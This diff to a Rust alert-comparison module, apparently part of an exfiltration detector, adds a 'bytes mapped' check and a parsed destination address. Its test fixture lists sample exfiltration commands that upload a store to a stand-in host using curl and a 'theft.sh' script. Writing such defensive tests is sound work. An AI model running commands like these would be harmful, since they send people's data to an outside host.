@@ -24,6 +24,7 @@ pub(crate) fn differences(alert: &Alert, moved: &Moved) -> Vec<String> {
         &alert.bytes_read.to_string(),
         &moved.bytes_read.to_string(),
     );
+    compare("bytes mapped", &alert.bytes_mapped.to_string(), "0");
     compare(
         "bytes sent",
         &alert.bytes_sent.to_string(),
@@ -31,7 +32,7 @@ pub(crate) fn differences(alert: &Alert, moved: &Moved) -> Vec<String> {
     );
     compare(
         "destination",
-        &alert.destination,
+        &alert.destination.to_string(),
         &moved.destination.to_string(),
     );
     found.extend(chain(alert, moved));
@@ -85,8 +86,9 @@ mod tests {
             store: "demo".to_owned(),
             records: 200,
             bytes_read: 1000,
+            bytes_mapped: 0,
             bytes_sent: 1200,
-            destination: "203.0.113.2:4000".to_owned(),
+            destination: "203.0.113.2:4000".parse().unwrap(),
             chain: vec![
                 words("curl --config - http://203.0.113.2:4000/upload"),
                 words("sh /run/theft.sh /store http://203.0.113.2:4000/upload"),
@@ -114,6 +116,7 @@ mod tests {
         check(|alert| alert.store = "other".to_owned(), "store");
         check(|alert| alert.records -= 1, "distinct records");
         check(|alert| alert.bytes_read += 1, "bytes read");
+        check(|alert| alert.bytes_mapped += 1, "bytes mapped");
         check(|alert| alert.bytes_sent -= 1, "bytes sent");
         check(
             |alert| alert.destination = "192.0.2.2:4001".to_owned(),
